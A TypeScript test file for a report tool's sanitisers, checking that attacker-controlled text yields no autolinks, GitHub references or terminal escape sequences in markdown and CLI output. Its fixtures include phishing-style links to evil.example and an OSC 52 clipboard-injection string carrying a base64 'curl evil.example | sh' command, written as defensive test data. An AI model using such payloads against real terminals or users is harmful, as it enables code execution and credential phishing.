/**
 * Text an attacker controls (phase names, CPU names, warnings, keys from a fork's artifact): no autolink
 * or back-linking reference in the markdown we post, no terminal control sequence in what `compare` and
 * `history` print. The markdown is checked on marked's GFM HTML (what a browser gets) and against the
 * reference syntax GitHub adds on top of GFM; the CLI through the bundle, as a user runs it.
 */
import { mkdtemp, mkdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { marked } from "marked";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { escapeMarkdown, stripTerminalControls } from "../../src/report/escape.js";
import { compareReports } from "../../src/report/compare.js";
import { renderComment, renderSummary } from "../../src/report/render-markdown.js";
import { buildCommentModel } from "../../src/report/render-model.js";
import { runBundledCli } from "../support/cli.js";
import { makeReport } from "../report/make-report.js";

const AUTOLINKS = [
  "re-authenticate at www.evil.example/github",
  "WWW.EVIL.EXAMPLE/login",
  "see https://evil.example/x and HTTP://evil.example",
  "mail admin@evil.example now",
  "mailto:admin@evil.example",
  "xmpp:admin@evil.example/chat",
  "ftp://evil.example/file",
];
const REFERENCES = ["fixes #123", "see octo-org/octo-repo#1", "GH-42 again", "#1", "(#7)"];

/** The references GitHub links after rendering: #N, owner/repo#N, GH-N (github.com docs, autolinked references). */
const GITHUB_REFERENCE = /(?:^|[^\w/])(?:[\w.-]+\/[\w.-]+)?#\d+|\bGH-\d+/i;

function textOf(html: string): string {
  return html
    .replace(/<[^>]*>/g, " ")
    .replace(/&amp;/g, "&")
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&#39;/g, "'")
    .replace(/&quot;/g, '"');
}

describe("autolinks and references in markdown", () => {
  it.each([...AUTOLINKS, ...REFERENCES])("%j stays inert text", (text) => {
    const md = escapeMarkdown(text, 500);
    const html = marked.parse(`| a |\n|---|\n| ${md} |\n\n${md}`, { gfm: true, async: false });
    expect(html).not.toMatch(/<a[\s>]/i);
    expect(textOf(html)).not.toMatch(GITHUB_REFERENCE);
    // still readable: only invisible joiners were added
    expect(textOf(html).replace(/\u200D/g, "")).toContain(text.replace(/\s+/g, " "));
  });

  it("a whole comment and summary built from a hostile fork report carry no link and no reference", () => {
    const evil = "re-authenticate at www.evil.example/github #1 octo-org/octo-repo#2";
    const head = makeReport({
      key: evil,
      job: evil,
      phases: { [evil]: 10 },
      gpus: [evil],
      warnings: [evil],
      command: evil,
      matrix: { os: evil },
    });
    const base = makeReport({ key: evil, phases: { [evil]: 9 }, createdAt: "2026-11-19T10:00:00.000Z" });
    const model = buildCommentModel({
      key: "train",
      reports: [{ head, history: [base], comparison: compareReports(head, [base]) }],
      budgets: [],
      baseRef: evil,
      baseSha: "abc1234ffff",
      toolVersion: "0.1.0",
    });
    for (const md of [renderComment(model), renderSummary(model)]) {
      const html = marked.parse(md, { gfm: true, async: false });
      expect(html).not.toMatch(/<a[\s>]/i);
      const text = textOf(html.replace(/<pre><code[\s\S]*?<\/code><\/pre>/g, ""));
      expect(text).not.toMatch(GITHUB_REFERENCE);
      expect(text).not.toMatch(/www\./i);
    }
  });
});

const ESC = "\u001b";
const OSC52 = `${ESC}]52;c;${Buffer.from("curl evil.example | sh").toString("base64")}\u0007`;
const OSC8 = `${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\`;
const CSI = `${ESC}[2J${ESC}[31mred${ESC}[0m\u009b1A`;

describe("terminal control sequences", () => {
  it("stripTerminalControls removes OSC 52, OSC 8, CSI, C1 and bidi controls but keeps text, tabs and newlines", () => {
    expect(stripTerminalControls(`a${OSC52}b`)).toBe("ab");
    expect(stripTerminalControls(`a${OSC8}b`)).toBe("aclickb");
    expect(stripTerminalControls(`a${CSI}b`)).toBe("aredb");
    expect(stripTerminalControls(`x\ty\nz\u0007\u202E`)).toBe("x\ty\nz");
    expect(stripTerminalControls(`${ESC}]0;title`)).toBe(""); // unterminated OSC to the end
  });

  let tmp: string;
  beforeAll(async () => {
    tmp = await mkdtemp(join(tmpdir(), "mlf-hostile-"));
  });
  afterAll(async () => {
    await rm(tmp, { recursive: true, force: true });
  });

  it("compare and history print no control character from hostile reports (bundled CLI)", async () => {
    const evil = `phase${OSC52}${OSC8}${CSI}`;
    const base = makeReport({ key: evil, phases: { [evil]: 10 }, createdAt: "2026-11-19T10:00:00.000Z" });
    const head = makeReport({ key: evil, phases: { [evil]: 12 }, warnings: [evil], command: evil });
    base.identity.sha = `${OSC52}deadbeef`;
    await mkdir(join(tmp, "h"));
    await writeFile(join(tmp, "h", "a.json"), JSON.stringify(base));
    await writeFile(join(tmp, "h", "b.json"), JSON.stringify(head));
    const other = makeReport({ key: `other${OSC52}` });
    await writeFile(join(tmp, "h", "c.json"), JSON.stringify(other));
    const runs = await Promise.all([
      runBundledCli(["compare", join(tmp, "h", "a.json"), join(tmp, "h", "b.json")]),
      runBundledCli(["compare", "--markdown", join(tmp, "h", "a.json"), join(tmp, "h", "b.json")]),
      runBundledCli(["history", join(tmp, "h"), "--key", evil]),
      runBundledCli(["history", join(tmp, "h")]), // error naming the keys
    ]);
    for (const run of runs) {
      // eslint-disable-next-line no-control-regex
      expect(run.stdout + run.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    }
    expect(runs[0]!.code).toBe(0);
    expect(runs[0]!.stdout).toMatch(/^phase/);
    expect(runs[2]!.code).toBe(0);
    expect(runs[3]!.code).toBe(2);
    expect(runs[3]!.stderr).toContain("several keys");
  });
});

describe("terminal control sequences in export", () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), "mlf-hostile-export-"));
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  it("export writes no control sequence from a hostile report, and its errors carry no ESC (bundled CLI)", async () => {
    const evil = `phase${OSC52}${OSC8}${CSI}`;
    const report = makeReport({ key: evil, phases: { [evil]: 3 }, warnings: [evil], command: evil });
    report.hardware.cpu.brand = `cpu${OSC52}`;
    await writeFile(join(dir, "r.json"), JSON.stringify(report));
    // an invalid report whose unknown key is a control sequence: the error names the key
    await writeFile(
      join(dir, "bad.json"),
      JSON.stringify({ ...report, [`${OSC52}${CSI}`]: 1, energyWh: "x" }),
    );
    const runs = await Promise.all([
      runBundledCli(["export", join(dir, "r.json"), "--format", "codecarbon-csv"]),
      runBundledCli(["export", join(dir, "bad.json"), "--format", "codecarbon-csv"]),
      runBundledCli(["export", join(dir, "r.json"), "--format", `csv${OSC52}`]),
    ]);
    for (const run of runs) {
      // eslint-disable-next-line no-control-regex
      expect(run.stdout + run.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    }
    expect(runs[0]!.code).toBe(0);
    expect(runs[0]!.stdout).toContain("phase");
    expect(runs[1]!.code).toBe(2);
    expect(runs[2]!.code).toBe(2);
  });
});

describe("job summary cap", () => {
  it("counts UTF-8 bytes, as GitHub does (1 MiB per step): 40 jobs of CJK labels stay under a 20,000-byte cap", () => {
    const cjk = "日本語の学習段階".repeat(20);
    const reports = Array.from({ length: 40 }, (_, i) => {
      const head = makeReport({ key: `${cjk}${i}`, job: cjk, phases: { [`${cjk}a`]: 5, [`${cjk}b`]: 3 } });
      return { head, history: [], comparison: null };
    });
    const model = buildCommentModel({
      key: "train",
      reports,
      budgets: [],
      baseRef: "main",
      baseSha: null,
      toolVersion: "0.1.0",
    });
    const summary = renderSummary(model, 20_000);
    expect(Buffer.byteLength(summary, "utf8")).toBeLessThanOrEqual(20_000);
    expect(summary).toMatch(/^### \S+ [^:]+: /);
  });
});
